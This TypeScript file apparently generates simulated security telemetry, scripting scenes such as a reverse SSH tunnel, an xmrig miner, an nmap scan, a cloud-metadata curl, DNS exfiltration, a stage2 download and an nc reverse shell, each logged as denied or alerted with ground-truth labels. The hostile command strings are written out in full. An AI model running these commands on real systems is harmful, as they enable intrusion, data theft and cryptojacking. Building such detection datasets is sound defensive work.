import { alerted, behindEdge, child, denied, lookup, send } from './acts.ts';
import * as lines from './lines.ts';
import { DENY, deed, domain, type Scene, target, truth } from './scene.ts';

export function tunnel(scene: Scene): void {
  const { world } = scene;
  const ip = target(world);
  const made = deed(scene, scene.sandbox, `ssh -N -f -R 2222:localhost:22 ops@${ip}`);
  const actor = child(world, made, made.start + 0.1, ['ssh', '-N', '-f', '-R', '2222:localhost:22', `ops@${ip}`]);
  for (let i = 0; i < 3; i++) {
    const t = made.start + 0.2 + i * 6;
    const sent = send(world, t, actor, { dst: ip, port: 22 });
    denied(world, t, sent, DENY, truth(scene, 'tunnel', made, actor.who));
  }
}

export function miner(scene: Scene): void {
  const { world } = scene;
  const ip = target(world);
  const command = `nohup ./xmrig -o stratum+tcp://${ip}:14444 -u wallet >/dev/null 2>&1 &`;
  const made = deed(scene, scene.sandbox, command, 0.3);
  const actor = child(world, made, made.start + 0.1, ['./xmrig', '-o', `stratum+tcp://${ip}:14444`, '-u', 'wallet']);
  for (let i = 0; i < 4; i++) {
    const t = made.start + 0.2 + i * 9;
    const sent = send(world, t, actor, { dst: ip, port: 14_444 });
    behindEdge(world, t, sent);
    alerted(world, t, sent, 'ET COINMINER Stratum login', truth(scene, 'miner', made, actor.who));
  }
}

export function scan(scene: Scene): void {
  const { world } = scene;
  const made = deed(scene, scene.sandbox, 'nmap -Pn -p 22,445,6379 10.77.0.0/28', 4);
  const actor = child(world, made, made.start + 0.1, ['nmap', '-Pn', '-p', '22,445,6379', '10.77.0.0/28']);
  for (let i = 1; i < 9; i++) {
    const t = made.start + 0.2 + i * 0.15;
    const sent = send(world, t, actor, { dst: `10.77.0.${i}`, port: world.random.pick([22, 445, 6379]) });
    denied(world, t, sent, 'FW-INT-DENY', truth(scene, 'scan', made, actor.who));
  }
}

export function metadata(scene: Scene): void {
  const { world } = scene;
  const url = 'http://169.254.169.254/latest/meta-data/';
  const made = deed(scene, scene.sandbox, `curl -s -m 3 ${url}`);
  const actor = child(world, made, made.start + 0.1, ['curl', '-s', '-m', '3', url]);
  const sent = send(world, made.start + 0.2, actor, { dst: '169.254.169.254', port: 80 });
  denied(world, made.start + 0.2, sent, 'FW-META', truth(scene, 'metadata', made, actor.who));
}

export function dnsExfil(scene: Scene): void {
  const { world } = scene;
  const base = 't.cdn-sync.example';
  const made = deed(scene, scene.sandbox, `for c in $(base32 f); do dig +short $c.${base}; done`, 5);
  for (let i = 0; i < 5; i++) {
    const name = `${world.random.hex(48)}.${world.random.hex(40)}.${base}`;
    const actor = child(world, made, made.start + 0.2 + i * 0.5, ['dig', '+short', name]);
    lookup(world, made.start + 0.3 + i * 0.5, actor, name, truth(scene, 'dnsexfil', made, actor.who));
  }
}

export function proxy(scene: Scene): void {
  const { world } = scene;
  const url = `http://${domain(world)}/stage2.sh`;
  const made = deed(scene, scene.sandbox, `curl -x http://10.77.0.3:3128 -O ${url}`);
  const actor = child(world, made, made.start + 0.1, ['curl', '-x', 'http://10.77.0.3:3128', '-O', url]);
  const t = made.start + 0.2;
  send(world, t, actor, { dst: '10.77.0.3', port: 3128 });
  world.write(
    'proxy-access.log',
    'proxy',
    t + 0.05,
    (read) => lines.squid(read, actor.host.lanIp, 'TCP_DENIED/403', 'GET', url),
    truth(scene, 'proxy', made, actor.who),
  );
}

/** Two translations with random ports; the alert is raised outside. */
export function natChain(scene: Scene): void {
  const { world } = scene;
  const ip = target(world);
  const made = deed(scene, scene.sandbox, `nc ${ip} 4444 -e /bin/sh`);
  const actor = child(world, made, made.start + 0.1, ['nc', ip, '4444', '-e', '/bin/sh']);
  const t = made.start + 0.2;
  const packet = behindEdge(world, t, send(world, t, actor, { dst: ip, port: 4444 }));
  const alert = {
    action: 'allowed',
    gid: 1,
    signature_id: 9_000_011,
    rev: 1,
    signature: 'ET TROJAN reverse shell',
    category: '',
    severity: 1,
  };
  world.write(
    'outside-eve.json',
    'edge-fw',
    t + 0.003,
    (read) => lines.eve(read, packet, { event_type: 'alert', alert }),
    truth(scene, 'reverse-shell', made, actor.who),
  );
}
